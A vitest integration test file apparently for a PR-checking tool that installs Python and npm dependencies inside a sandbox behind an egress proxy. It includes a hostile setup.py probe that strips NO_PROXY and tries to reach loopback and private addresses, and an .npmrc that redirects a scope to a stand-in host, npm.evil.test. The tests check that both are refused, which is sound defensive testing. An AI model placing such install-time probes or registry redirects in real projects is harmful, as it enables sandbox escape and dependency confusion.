import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { configSchema } from '../../src/core/config-schema.js';
import { runGate } from '../../src/gate/run-gate.js';
import { g8 } from '../../src/guards/g8-tests/index.js';
import { MemoryBaselineCache } from '../../src/testgate/baseline-cache.js';
import type { Report } from '../../src/core/report.js';
import type { TestsSection } from '../../src/core/report-sections.js';
import { prRepo, removeTestRepos, type TestRepo } from '../helpers/git-repo.js';
import { needs } from '../helpers/toolchains.js';

/**
 * The dependency stage through the real CLI, installing for real from PyPI and npm through the
 * egress proxy. Each test gets its own cache folder where it asserts on installs, so that a warm
 * cache from another run cannot hide a missing install.
 */

const dirs: string[] = [];
function freshCache(): string {
  const d = mkdtempSync(join(tmpdir(), 'slopgate-deps-test-'));
  dirs.push(d);
  return d;
}
afterAll(() => {
  removeTestRepos();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

async function check(
  repo: TestRepo,
  cacheDir: string,
  extra: string[] = [],
): Promise<{ code: number; report: Report; tests: TestsSection }> {
  const saved = process.env.SLOPGATE_DEPS_CACHE_DIR;
  process.env.SLOPGATE_DEPS_CACHE_DIR = cacheDir;
  let out = '';
  try {
    const code = await main(
      ['check', '--repo', repo.dir, '--base', 'main', '--head', 'pr', '--format', 'json', ...extra],
      (s) => (out += s),
    );
    const report = JSON.parse(out) as Report;
    return { code, report, tests: report.sections.tests! };
  } finally {
    if (saved === undefined) delete process.env.SLOPGATE_DEPS_CACHE_DIR;
    else process.env.SLOPGATE_DEPS_CACHE_DIR = saved;
  }
}

const PY_BASE = {
  'pyproject.toml': '[project]\nname = "calc"\nversion = "0.1.0"\ndependencies = []\n',
  'calc/__init__.py': 'def add(a, b):\n    return a + b\n',
  'tests/test_calc.py': 'from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n',
};

needs('python3', 'bwrap')('G8 installs a Python project’s dependencies', () => {
  it('a PR that adds a dependency and uses it: installed at the head, where the tests run and pass', async () => {
    const repo = prRepo(PY_BASE, {
      'pyproject.toml': PY_BASE['pyproject.toml'].replace('dependencies = []', 'dependencies = ["six==1.16.0"]'),
      'calc/__init__.py': 'import six\n\n\ndef add(a, b):\n    return a + b\n\n\ndef name():\n    return six.text_type("calc")\n',
      'tests/test_name.py': 'import six\nfrom calc import name\n\n\ndef test_name():\n    assert name() == "calc"\n    assert six.PY3\n',
    });
    const { code, report, tests } = await check(repo, freshCache());
    expect(tests.skipped).toBeUndefined();
    expect(tests.dependencies?.base).toMatchObject({ status: 'installed', ecosystem: 'python' });
    expect(tests.dependencies?.head).toMatchObject({ status: 'installed', ecosystem: 'python' });
    expect(tests.dependencies?.head.key).not.toBe(tests.dependencies?.base.key);
    expect(tests.baseline).toMatchObject({ failing: 0, total: 1 });
    expect(tests.candidate).toMatchObject({ failing: 0, total: 2 });
    expect(tests.toolchain?.python).toMatch(/^3\.\d+\.\d+$/);
    expect(tests.toolchain?.pytest).toMatch(/^\d+\.\d+/);
    expect(report.findings.filter((f) => f.guard === 'G8')).toEqual([]);
    expect(code).toBe(0);
  }, 600_000);

  it('a dependency version that does not exist is build-broken on the manifest, with the installer’s words', async () => {
    const repo = prRepo(PY_BASE, {
      'pyproject.toml': PY_BASE['pyproject.toml'].replace('dependencies = []', 'dependencies = ["six==99.0.0"]'),
    });
    const { code, report, tests } = await check(repo, freshCache());
    const f = report.findings.filter((x) => x.guard === 'G8');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ category: 'build-broken', severity: 'fail', path: 'pyproject.toml' });
    expect(f[0]!.message).toMatch(/six==99\.0\.0/);
    expect(f[0]!.message).toMatch(/no matching distribution|could not find a version/i);
    expect(tests.dependencies?.head.status).toBe('failed');
    expect(code).toBe(1);
  }, 600_000);

  it('a second run on the same dependencies installs nothing: the entry comes from the cache', async () => {
    const repo = prRepo(PY_BASE, { 'calc/__init__.py': 'def add(a, b):\n    return b + a\n' });
    const cache = freshCache();
    const first = await check(repo, cache);
    expect(first.tests.dependencies?.base.status).toBe('installed');
    const entries = readdirSync(join(cache, 'shared'));
    expect(entries).toHaveLength(1);
    const second = await check(repo, cache);
    expect(second.tests.dependencies?.base).toMatchObject({ status: 'cached', key: first.tests.dependencies?.base.key });
    expect(second.tests.dependencies?.head.status).toBe('cached');
    expect(readdirSync(join(cache, 'shared'))).toEqual(entries);
    expect(readdirSync(join(cache, 'tree'))).toEqual([]);
    expect(second.tests.candidate).toMatchObject({ failing: 0, total: 1 });
  }, 600_000);

  describe_loopback();
});

/** A listener of our own on the host's loopback: no install script may reach it. */
function describe_loopback(): void {
  let server: Server;
  let port = 0;
  let hits = 0;
  beforeAll(async () => {
    server = createServer((s) => {
      hits++;
      s.end('HTTP/1.0 200 OK\r\n\r\nreached');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as { port: number }).port; // cast: a TCP server's address is an object
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it('an install script cannot reach a listener on the host’s loopback, directly or through the proxy; the refusal is reported', async () => {
    // setup.py runs while the project is built to learn its dependencies: PR code, in the sandbox.
    const probe = [
      'import os, socket, urllib.request, sys',
      // A hostile script sends even loopback through the proxy (NO_PROXY would keep it inside the sandbox).
      'os.environ.pop("no_proxy", None); os.environ.pop("NO_PROXY", None)',
      'via_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({"http": os.environ["HTTP_PROXY"]}))',
      'from setuptools import setup',
      'for how, fn in [',
      `    ("direct", lambda: socket.create_connection(("127.0.0.1", ${port}), timeout=5)),`,
      `    ("proxy", lambda: via_proxy.open("http://127.0.0.1:${port}/", timeout=10)),`,
      `    ("proxy-name", lambda: via_proxy.open("http://localhost:${port}/", timeout=10)),`,
      // A private address through the proxy: refused before anything is sent there.
      `    ("proxy-private", lambda: via_proxy.open("http://10.1.2.3/", timeout=10)),`,
      ']:',
      '    try:',
      '        fn()',
      '        print("REACHED", how, file=sys.stderr)',
      '    except Exception as e:',
      '        print("blocked", how, type(e).__name__, file=sys.stderr)',
      'setup(name="calc", version="0.1.0", packages=["calc"])',
      '',
    ].join('\n');
    const repo = prRepo(PY_BASE, { 'pyproject.toml': null, 'setup.py': probe });
    const { tests } = await check(repo, freshCache());
    expect(hits).toBe(0);
    expect(tests.dependencies?.head.status).toBe('installed');
    const notes = tests.notes?.join('\n') ?? '';
    expect(notes).toMatch(/egress proxy refused/);
    expect(notes).toMatch(/127\.0\.0\.1/);
    expect(notes).toMatch(/10\.1\.2\.3/);
    expect(notes).toMatch(/localhost/);
    expect(tests.candidate).toMatchObject({ failing: 0, total: 1 });
  }, 600_000);
}

const NODE_BASE = {
  'package.json': JSON.stringify(
    { name: 'calc', version: '1.0.0', private: true, scripts: { test: 'node --test test/' }, dependencies: { 'is-number': '7.0.0' } },
    null,
    2,
  ),
  'index.js': "const isNumber = require('is-number');\nexports.add = (a, b) => (isNumber(a) && isNumber(b) ? a + b : NaN);\n",
  'test/add.test.js':
    "const test = require('node:test');\nconst assert = require('node:assert');\nconst { add } = require('../index.js');\ntest('adds', () => assert.strictEqual(add(2, 3), 5));\n",
};

needs('bwrap')('G8 installs an npm project’s dependencies', () => {
  it('installs from the registry, and a PR .npmrc that sends a scope to another host is refused and named', async () => {
    const pkg = JSON.parse(NODE_BASE['package.json']) as { dependencies: Record<string, string> };
    pkg.dependencies['@evil/helper'] = '1.0.0';
    const repo = prRepo(NODE_BASE, { '.npmrc': '@evil:registry=https://npm.evil.test/\n', 'package.json': JSON.stringify(pkg, null, 2) });
    const { report, tests } = await check(repo, freshCache());
    expect(tests.dependencies?.base).toMatchObject({ status: 'installed', ecosystem: 'npm' });
    expect(tests.dependencies?.head.status).toBe('failed');
    const f = report.findings.find((x) => x.guard === 'G8');
    expect(f).toMatchObject({ category: 'build-broken', severity: 'fail' });
    expect(['.npmrc', 'package.json']).toContain(f!.path);
    expect(f!.message).toMatch(/npm\.evil\.test/);
    expect(f!.message).toMatch(/refused/);
  }, 600_000);
});

needs('bwrap')('G8 runs a vitest project whose node_modules the gate installed', () => {
  it('vitest from the registry runs against the read-only node_modules, and a broken assertion is a regression', async () => {
    const files = {
      'package.json': JSON.stringify(
        { name: 'slug', version: '1.0.0', type: 'module', scripts: { test: 'vitest run' }, devDependencies: { vitest: '3.2.4' } },
        null,
        2,
      ),
      'src/slug.js': "export const slug = (s) => s.trim().toLowerCase().replace(/\\s+/g, '-');\n",
      'test/slug.test.js':
        "import { expect, it } from 'vitest';\nimport { slug } from '../src/slug.js';\nit('joins words', () => expect(slug(' A b ')).toBe('a-b'));\n",
    };
    const repo = prRepo(files, { 'src/slug.js': "export const slug = (s) => s.trim().replace(/\\s+/g, '-');\n" });
    const { report, tests } = await check(repo, freshCache());
    expect(tests.dependencies?.base).toMatchObject({ status: 'installed', ecosystem: 'npm' });
    expect(tests.runner).toBe('vitest');
    expect(tests.baseline).toMatchObject({ failing: 0, total: 1 });
    expect(tests.regressions).toEqual(['js:test/slug.test.js > joins words']);
    expect(report.findings.find((f) => f.category === 'test-regression')).toMatchObject({ severity: 'fail', path: 'test/slug.test.js' });
  }, 600_000);
});

needs('bwrap')('G8 in a workflow that installed the dependencies itself (the Action)', () => {
  it('uses the workspace’s node_modules read-only instead of installing, even with the sandbox network off', async () => {
    const repo = prRepo(
      { ...NODE_BASE, '.gitignore': 'node_modules/\n' },
      { 'index.js': "const isNumber = require('is-number');\nexports.add = (a, b) => (isNumber(a) && isNumber(b) ? a - b : NaN);\n" },
    );
    // What `npm ci` in the workflow left in the checkout (a stand-in package, so no registry is needed).
    repo.write({
      'node_modules/is-number/package.json': '{"name":"is-number","version":"7.0.0","main":"index.js"}\n',
      'node_modules/is-number/index.js': "module.exports = (n) => typeof n === 'number';\n",
    });
    const saved = { egress: process.env.SLOPGATE_EGRESS, cache: process.env.SLOPGATE_DEPS_CACHE_DIR };
    process.env.SLOPGATE_EGRESS = 'off';
    process.env.SLOPGATE_DEPS_CACHE_DIR = freshCache();
    try {
      const report = await runGate({
        repoDir: repo.dir,
        base: 'main',
        head: 'pr',
        guards: [g8],
        config: configSchema.parse({ tests: { timeoutSec: 120, reruns: 0 } }),
        services: { baselineCache: new MemoryBaselineCache(), tests: { repo: 'fixture', prepared: { workspace: repo.dir } } },
      });
      const tests = report.sections.tests!;
      expect(tests.dependencies?.base).toMatchObject({ status: 'prepared', ecosystem: 'npm' });
      expect(tests.dependencies?.head.status).toBe('prepared');
      expect(tests.regressions).toEqual(['js:test/add.test.js > adds']);
    } finally {
      for (const [k, v] of [
        ['SLOPGATE_EGRESS', saved.egress],
        ['SLOPGATE_DEPS_CACHE_DIR', saved.cache],
      ] as const) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
    }
  }, 600_000);
});

needs('python3', 'bwrap')('G8 when the registry fails', () => {
  it('an install that fails for network trouble stops the gate as not about the code: neither a pass nor a finding', async () => {
    // A "proxy" that takes every connection and drops it: what a registry outage looks like to an installer.
    const dir = mkdtempSync(join(tmpdir(), 'slopgate-broken-proxy-'));
    dirs.push(dir);
    const socketPath = join(dir, 'proxy.sock');
    const broken = createServer((s) => s.destroy());
    await new Promise<void>((r) => broken.listen(socketPath, r));
    const repo = prRepo(
      { ...PY_BASE, 'pyproject.toml': PY_BASE['pyproject.toml'].replace('dependencies = []', 'dependencies = ["six==1.16.0"]') },
      { 'calc/__init__.py': 'def add(a, b):\n    return b + a\n' },
    );
    const saved = process.env.SLOPGATE_DEPS_CACHE_DIR;
    process.env.SLOPGATE_DEPS_CACHE_DIR = freshCache();
    try {
      const run = runGate({
        repoDir: repo.dir,
        base: 'main',
        head: 'pr',
        guards: [g8],
        config: configSchema.parse({ tests: { timeoutSec: 120, reruns: 0 } }),
        services: {
          baselineCache: new MemoryBaselineCache(),
          tests: {
            repo: 'fixture',
            installEgress: () => Promise.resolve({ socketPath, refusals: () => [], close: () => Promise.resolve() }),
          },
        },
      });
      await expect(run).rejects.toMatchObject({ name: 'GateInfraError', kind: 'resources' });
      await expect(run).rejects.toThrow(/package registry or the network failed/);
    } finally {
      if (saved === undefined) delete process.env.SLOPGATE_DEPS_CACHE_DIR;
      else process.env.SLOPGATE_DEPS_CACHE_DIR = saved;
      await new Promise<void>((r) => broken.close(() => r()));
    }
  }, 600_000);
});
